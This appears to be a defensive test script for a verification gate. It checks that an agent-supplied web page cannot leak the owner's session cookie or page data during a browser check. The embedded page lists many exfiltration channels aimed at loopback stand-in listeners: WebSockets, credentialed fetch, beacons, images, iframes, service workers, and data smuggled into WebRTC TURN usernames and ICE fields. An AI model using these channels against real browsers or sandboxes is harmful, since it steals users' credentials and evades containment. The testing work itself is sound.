#!/usr/bin/env bash
# The agent's script on the owner's page tries every way out: a WebSocket to
# 127.0.0.1:443 (allowed by the origin proxy for an http page: the "upgrade" port),
# a WebSocket / fetch / beacon / image to another loopback port, https://127.0.0.1/
# (treated as the same origin: the owner's cookie is added), a service worker that
# fetches another origin, WebRTC STUN (UDP) and TURN-over-TCP to 443 with data in the
# username. Listeners record what arrives. Works if anything but the page's own
# server receives a byte of the page's data or of the cookie.
. "$(dirname "$0")/lib.sh"
PAGE=18816; OTHER=18817; UDP=18818
export R16_COOKIE="ckVALUEs3cr3t9"
mkdir -p "$W/site"
cat > "$W/site/index.html" <<H
<html><body><div id="pending">Pending</div><script>
const d = 'PAGEDATA' + encodeURIComponent(document.getElementById('pending').textContent);
const log = [];
function tryit(n, f){ try { f(); } catch(e) { log.push(n+':'+e); } }
tryit('ws443', () => new WebSocket('ws://127.0.0.1:443/ws?d=' + d));
tryit('wss443', () => new WebSocket('wss://127.0.0.1:443/ws?d=' + d));
tryit('wsother', () => new WebSocket('ws://127.0.0.1:$OTHER/ws?d=' + d));
tryit('https443', () => fetch('https://127.0.0.1/leak?d=' + d).catch(()=>{}));
tryit('http443', () => fetch('http://127.0.0.1:443/leak?d=' + d).catch(()=>{}));
tryit('other', () => fetch('http://127.0.0.1:$OTHER/leak?d=' + d, {credentials:'include', mode:'no-cors'}).catch(()=>{}));
tryit('localhost', () => fetch('http://localhost:$PAGE/leak?d=' + d, {mode:'no-cors'}).catch(()=>{}));
tryit('beacon', () => navigator.sendBeacon('http://127.0.0.1:$OTHER/beacon?d=' + d, d));
tryit('img', () => { const i = new Image(); i.src = 'http://127.0.0.1:$OTHER/img?d=' + d; });
tryit('sw', () => navigator.serviceWorker.register('/sw.js'));
tryit('rtc', async () => {
  const pc = new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:$UDP'},{urls:'turn:127.0.0.1:443?transport=tcp', username:d, credential:'x'}]});
  pc.createDataChannel('x'); const o = await pc.createOffer(); await pc.setLocalDescription(o);
});
tryit('rtcufrag', async () => {
  const fp = Array.from({length:32}, () => 'AB').join(':');
  const sdp = ['v=0','o=- 1 2 IN IP4 127.0.0.1','s=-','t=0 0','a=group:BUNDLE 0','m=application 9 UDP/DTLS/SCTP webrtc-datachannel','c=IN IP4 0.0.0.0',
    'a=ice-ufrag:PAGEDATA' + document.getElementById('pending').textContent, 'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa', 'a=fingerprint:sha-256 ' + fp,
    'a=setup:actpass','a=mid:0','a=sctp-port:5000','a=candidate:1 1 udp 2122260223 127.0.0.1 $UDP typ host',''].join('\r\n');
  const pc = new RTCPeerConnection();
  await pc.setRemoteDescription({type:'offer', sdp});
  const a = await pc.createAnswer(); await pc.setLocalDescription(a);
  window.__pc = pc;
});
tryit('win', () => window.open('http://127.0.0.1:$OTHER/popup?d=' + d));
tryit('iframe', () => { const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:$OTHER/frame?d=' + d; document.body.appendChild(f); });
tryit('form', () => { const f = document.createElement('form'); f.method='POST'; f.target='x'; f.action='http://127.0.0.1:$OTHER/form'; document.body.appendChild(f); });
setTimeout(() => { const s = document.createElement('div'); s.id = 'status'; s.textContent = 'Paid'; document.body.appendChild(s); }, 4000);
</script></body></html>
H
cat > "$W/site/sw.js" <<H
fetch('http://127.0.0.1:$OTHER/sw?d=PAGEDATAsw').catch(()=>{});
self.addEventListener('install', e => { fetch('http://127.0.0.1:$OTHER/swinstall?d=PAGEDATAsw').catch(()=>{}); });
H
python3 - "$W/site" "$PAGE" "$W/page.log" <<'PY' &
import http.server, sys, functools
root, port, log = sys.argv[1], int(sys.argv[2]), sys.argv[3]
class H(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        open(log, "a").write("%s %s\n" % (self.path, self.headers.get("Cookie")))
        super().do_GET()
http.server.ThreadingHTTPServer(("127.0.0.1", port), functools.partial(H, directory=root)).serve_forever()
PY
P1=$!
python3 - "$W" "$OTHER" "$UDP" <<'PY' &
import socket, threading, sys, os
w, other, udp = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
def tcp(port, name):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try: s.bind(("127.0.0.1", port))
    except OSError as e: open(os.path.join(w, name + ".err"), "w").write(str(e)); return
    s.listen(50)
    while True:
        c, _ = s.accept()
        def h(c=c):
            c.settimeout(3)
            data = b""
            try:
                while True:
                    b = c.recv(65536)
                    if not b: break
                    data += b
            except Exception: pass
            open(os.path.join(w, name + ".log"), "ab").write(b"--conn--\n" + data + b"\n")
        threading.Thread(target=h, daemon=True).start()
def u():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", udp))
    while True:
        d, a = s.recvfrom(65536); open(os.path.join(w, "udp.log"), "ab").write(d + b"\n")
for p, n in ((443, "l443"), (other, "other")): threading.Thread(target=tcp, args=(p, n), daemon=True).start()
threading.Thread(target=u, daemon=True).start()
threading.Event().wait()
PY
P2=$!
sleep 1
cat > "$ROOT/contract.toml" <<T
[policy]
max_age_s = 300
[[check]]
id = "order-status"
check_type = "dom_assertion"
covers = { kind = "browser_action" }
source = { browser = { url = "http://127.0.0.1:$PAGE/index.html", selector = "#status", timeout_s = 25, cookies = { session = { env = "R16_COOKIE" } } } }
expected = { text = "Paid" }
T
KIND=browser_action C="$(claim orders/4471)"
timeout 120 "$EVIDENT" gate "$ROOT/contract.toml" "$C" --json --no-record > "$OWNER/out.json" 2>"$OWNER/err.txt"; code=$?
sleep 2
kill $P1 $P2 2>/dev/null
echo "gate exit $code state $(state)"
python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); [print(c["check_id"], c.get("observed"), c.get("error")) for c in d["gate"]["checks"]]' "$OWNER/out.json"
echo "page server saw:"; sort "$W/page.log" | uniq -c
works=0
for f in "$W"/l443.log "$W"/other.log "$W"/udp.log; do
  [ -s "$f" ] || continue
  echo "== $(basename "$f") received:"; head -c 1500 "$f" | cat -v; echo
  grep -aq "PAGEDATA\|$R16_COOKIE" "$f" && { echo "MATCH in $(basename "$f"):"; grep -ao "[^\n]\{0,80\}PAGEDATA[^\n]\{0,40\}" "$f" | head -5; works=1; }
done
ls "$W"/*.err 2>/dev/null && cat "$W"/*.err
grep -q "$R16_COOKIE" "$OWNER/out.json" "$OWNER/err.txt" && { echo "cookie in the gate's output"; works=1; }
[ $works = 1 ] && { echo "ATTACK WORKS: dom_exfil"; exit 1; }
echo "held: dom_exfil"; exit 0
